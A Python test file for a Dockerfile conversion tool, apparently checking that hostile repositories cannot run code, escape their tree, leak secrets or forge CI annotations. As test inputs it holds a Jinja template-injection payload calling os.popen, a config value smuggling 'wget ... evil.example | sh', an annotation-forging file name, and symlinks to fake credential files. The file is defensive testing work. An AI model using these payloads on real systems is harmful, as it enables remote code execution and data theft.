"""A repository under review is hostile input: its config, templates, links and file names must not run code,
write outside their tree, leak a file into the output, or forge CI annotations. One test per attack."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from typer.testing import CliRunner

from dockrewrite.cli import app

SEED = Path(__file__).resolve().parent.parent / "fixtures" / "go" / "seed-minimal"
runner = CliRunner()
SECRET = "AKIAIOSFODNN7EXAMPLE-do-not-leak"


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args])


def _repo(folder: Path) -> Path:
    """A git-like repository holding one convertible Go service; returns its Dockerfile."""
    shutil.copytree(SEED, folder, ignore=shutil.ignore_patterns("expected"))
    (folder / ".git").mkdir()
    return folder / "Dockerfile"


# --- 1. code execution through a repository's templates ----------------------------------------------


def _evil_templates(repo: Path, body: str) -> None:
    evil = repo / "evil" / "go"
    evil.mkdir(parents=True)
    for runtime in ("distroless", "alpine", "scratch", "slim"):
        (evil / f"{runtime}.Dockerfile.j2").write_text(body)
    (repo / ".dockrewrite.toml").write_text('templates = "evil"\n')


def test_a_config_named_template_cannot_run_a_shell_command(tmp_path: Path):
    dockerfile = _repo(tmp_path / "repo")
    marker = tmp_path / "pwned"
    _evil_templates(
        tmp_path / "repo",
        "{% set x = cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() %}FROM x\n",
    )
    for command in (["convert", "--check"], ["convert"], ["detect"], ["convert", "--format", "json"]):
        result = invoke(*command, dockerfile)
        assert not marker.exists(), f"{command} ran the template's shell command"
        assert "Traceback" not in result.output + result.stderr
    result = invoke("convert", dockerfile)
    assert result.exit_code == 2
    assert "evil/go/" in result.stderr and "sandbox" in result.stderr  # names the user's template file


def test_a_template_cannot_change_the_plan_it_renders(tmp_path: Path):
    dockerfile = _repo(tmp_path / "repo")
    _evil_templates(tmp_path / "repo", "{% set _ = plan.warnings.append('injected') %}FROM x\n")
    result = invoke("convert", dockerfile)
    assert result.exit_code == 2 and "sandbox" in result.stderr
    assert "injected" not in result.stderr


def test_a_template_error_names_the_file_and_line(tmp_path: Path):
    dockerfile = _repo(tmp_path / "repo")
    _evil_templates(tmp_path / "repo", "FROM x\n{% if %}\n")
    result = invoke("convert", dockerfile)
    assert result.exit_code == 2
    assert "evil/go/scratch.Dockerfile.j2:2" in result.stderr, result.stderr


def test_config_named_templates_stay_inside_the_repository(tmp_path: Path):
    dockerfile = _repo(tmp_path / "repo")
    (tmp_path / "elsewhere").mkdir()
    for named in ("../elsewhere", "/etc", str(tmp_path / "elsewhere")):
        (tmp_path / "repo" / ".dockrewrite.toml").write_text(f"templates = {json.dumps(named)}\n")
        result = invoke("convert", "--check", dockerfile)
        assert result.exit_code == 2, named
        assert "outside the repository" in result.stderr and ".dockrewrite.toml" in result.stderr


def test_a_template_linked_to_a_file_outside_is_not_read(tmp_path: Path):
    dockerfile = _repo(tmp_path / "repo")
    secret = tmp_path / "credentials"
    secret.write_text(SECRET + "\n")
    evil = tmp_path / "repo" / "evil" / "go"
    evil.mkdir(parents=True)
    (evil / "scratch.Dockerfile.j2").symlink_to(secret)
    (tmp_path / "repo" / ".dockrewrite.toml").write_text('templates = "evil"\n')
    for fmt in ("text", "json", "github"):
        result = invoke("convert", "--format", fmt, dockerfile)
        assert SECRET not in result.output + result.stderr
    assert "link that leaves its templates folder" in invoke("convert", dockerfile).stderr


# --- 2. templates --export never writes through a link --------------------------------------------------


def test_export_force_does_not_overwrite_a_link_target(tmp_path: Path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    out = tmp_path / "out"
    (out / "go").mkdir(parents=True)
    (out / "go" / "distroless.Dockerfile.j2").symlink_to(victim)
    result = invoke("templates", "--export", out, "--force")
    assert result.exit_code == 2 and "symlink" in result.stderr
    assert victim.read_text() == "keep me\n"


def test_export_does_not_create_a_dangling_link_target(tmp_path: Path):
    created = tmp_path / "created-outside.j2"
    out = tmp_path / "out"
    (out / "go").mkdir(parents=True)
    (out / "go" / "distroless.Dockerfile.j2").symlink_to(created)
    result = invoke("templates", "--export", out)
    assert result.exit_code == 2
    assert not created.exists()


def test_export_does_not_write_into_a_linked_folder(tmp_path: Path):
    outside = tmp_path / "outside"
    outside.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "go").symlink_to(outside, target_is_directory=True)
    result = invoke("templates", "--export", out, "--force")
    assert result.exit_code == 2
    assert list(outside.iterdir()) == []


def test_export_writes_real_files(tmp_path: Path):
    result = invoke("templates", "--export", tmp_path / "out")
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "out" / "go" / "distroless.Dockerfile.j2").is_file()


# --- 5. injection through [images] and through file names in annotations -------------------------------


def test_an_image_mirror_cannot_add_instructions(tmp_path: Path):
    dockerfile = _repo(tmp_path / "repo")
    (tmp_path / "repo" / ".dockrewrite.toml").write_text(
        '[images]\n"gcr.io/distroless/static-debian12:nonroot" = '
        '"alpine:3.20\\nRUN wget -qO- https://evil.example | sh"\n'
    )
    result = invoke("convert", dockerfile)
    assert result.exit_code == 2
    assert "not an image reference" in result.stderr
    assert "evil.example" not in result.stdout


def test_a_valid_image_mirror_is_used(tmp_path: Path):
    dockerfile = _repo(tmp_path / "repo")
    mirror = "registry.example.com:5000/mirror/static:nonroot@sha256:" + "a" * 64
    (tmp_path / "repo" / ".dockrewrite.toml").write_text(
        f'runtime = "distroless"\n[images]\n"gcr.io/distroless/static-debian12:nonroot" = "{mirror}"\n'
    )
    result = invoke("convert", dockerfile)
    assert result.exit_code == 0, result.stderr
    assert f"FROM {mirror} AS runtime" in result.output


def test_github_annotations_escape_file_names(tmp_path: Path):
    folder = tmp_path / "svc\n::error file=x,line=9::forged, title=spoof"
    dockerfile = _repo(folder)
    result = invoke("convert", "--format", "github", dockerfile)
    lines = result.stdout.splitlines()
    assert lines and all(line.startswith("::") for line in lines)
    assert not any(line.startswith("::error") for line in lines), lines
    first = lines[0]
    assert "%0A" in first and "%3A%3Aerror" in first and "%2C title=spoof" in first
    assert first.count(",line=") == 1 and first.count(",title=") == 1


# --- 6. discovery does not follow links out of the tree, errors do not echo content ----------------------


def test_a_planted_dockerfile_link_is_not_read(tmp_path: Path):
    secret = tmp_path / "aws-credentials"
    secret.write_text(f"aws_secret_access_key={SECRET}\n")
    repo = tmp_path / "repo"
    _repo(repo / "svc")
    (repo / "evil").mkdir()
    (repo / "evil" / "Dockerfile").symlink_to(secret)
    for fmt in ("text", "json", "github"):
        result = invoke("convert", "--format", fmt, repo)
        assert SECRET not in result.output + result.stderr, fmt
        assert "outside" in result.output + result.stderr
    assert invoke("convert", "--check", repo).exit_code == 1  # the real service still counts
    assert invoke("detect", repo).exit_code == 0


def test_an_unparsable_file_is_named_without_its_content(tmp_path: Path):
    target = tmp_path / "repo" / "Dockerfile"
    target.parent.mkdir()
    for content in (
        f"DATABASE_URL=postgres://app:{SECRET}@db\n",
        f"FROM a b c {SECRET}\n",
        f"# escape={SECRET}\nFROM x\n",
    ):
        target.write_text(content)
        for command in (["convert"], ["convert", "--format", "json"], ["convert", "--format", "github"], ["detect"]):
            result = invoke(*command, target)
            assert SECRET not in result.output + result.stderr, (content, command)
            assert result.exit_code == 2


def test_a_directory_named_dockerfile_and_a_broken_link_are_reported(tmp_path: Path):
    repo = tmp_path / "repo"
    (repo / "Dockerfile.d").mkdir(parents=True)
    (repo / "Dockerfile").symlink_to(repo / "gone")
    result = invoke("convert", repo)
    assert "Dockerfile: skipped: a broken symlink" in result.stderr
    assert "Dockerfile.d: skipped: a directory, not a Dockerfile" in result.stderr
    named = invoke("convert", repo / "Dockerfile")
    assert named.exit_code == 2 and "a broken symlink" in named.stderr


# --- 7. the runtime keeps the original's ENV; credential-looking values are flagged ----------------------


def _go_service(tmp_path: Path, body: str) -> Path:
    dockerfile = _repo(tmp_path / "repo")
    dockerfile.write_text(
        "FROM golang:1.22\nARG DB_PASSWORD\n" + body + 'WORKDIR /app\nCOPY . .\nRUN go build -o app .\nCMD ["./app"]\n'
    )
    return dockerfile


def test_credential_named_settings_stay_in_the_runtime(tmp_path: Path):
    dockerfile = _go_service(
        tmp_path,
        "ENV TOKEN_TTL=3600 PASSWORD_MIN_LENGTH=12 JWT_SECRET_FILE=/run/secrets/jwt\n"
        "ENV DSN=postgres://app:${DB_PASSWORD}@db/app\n",
    )
    result = invoke("convert", "-o", "-", dockerfile)
    assert result.exit_code == 0, result.stderr
    runtime = result.output.split("AS runtime", 1)[1]
    assert "ENV TOKEN_TTL=3600 PASSWORD_MIN_LENGTH=12 JWT_SECRET_FILE=/run/secrets/jwt" in runtime
    assert "ENV DSN=postgres://app:${DB_PASSWORD}@db/app" in runtime
    assert "ARG DB_PASSWORD" in runtime  # so ${DB_PASSWORD} expands as it did in the original
    assert "ENV TOKEN_TTL" not in result.stderr and "RUN --mount=type=secret,id=token_ttl" not in result.stderr


def test_a_secret_value_is_kept_and_flagged_in_every_mode(tmp_path: Path):
    dockerfile = _go_service(tmp_path, "ENV STRIPE_API_KEY=sk_live_51Habcdefghijklmnop LOG_LEVEL=info\n")
    result = invoke("convert", "-o", "-", dockerfile)
    runtime = result.output.split("AS runtime", 1)[1]
    assert "ENV STRIPE_API_KEY=sk_live_51Habcdefghijklmnop LOG_LEVEL=info" in runtime
    assert "ENV STRIPE_API_KEY (line 3)" in result.stderr and "baked into" in result.stderr
    check = invoke("convert", "--check", dockerfile)
    assert check.exit_code == 1 and "Dockerfile:3: warning: ENV STRIPE_API_KEY" in check.stderr
    github = invoke("convert", "--format", "github", dockerfile)
    assert any(
        line.startswith("::warning file=") and ",line=3,title=dockrewrite credential::" in line
        for line in github.output.splitlines()
    ), github.output


def test_settings_are_not_flagged_as_credentials(tmp_path: Path):
    from dockrewrite.contract import looks_like_secret

    assert not looks_like_secret("TOKEN_TTL", "3600")
    assert not looks_like_secret("PASSWORD_MIN_LENGTH", "12")
    assert not looks_like_secret("JWT_SECRET_FILE", "/run/secrets/jwt")
    assert not looks_like_secret("DSN", "postgres://app:${DB_PASSWORD}@db")
    assert not looks_like_secret("AUTH_ENABLED", "true")
    assert looks_like_secret("API_KEY", "changeme")
    assert looks_like_secret("DATABASE_URL", "postgres://app:hunter2@db/app")
    assert looks_like_secret("ANYTHING", "ghp_" + "a" * 36)
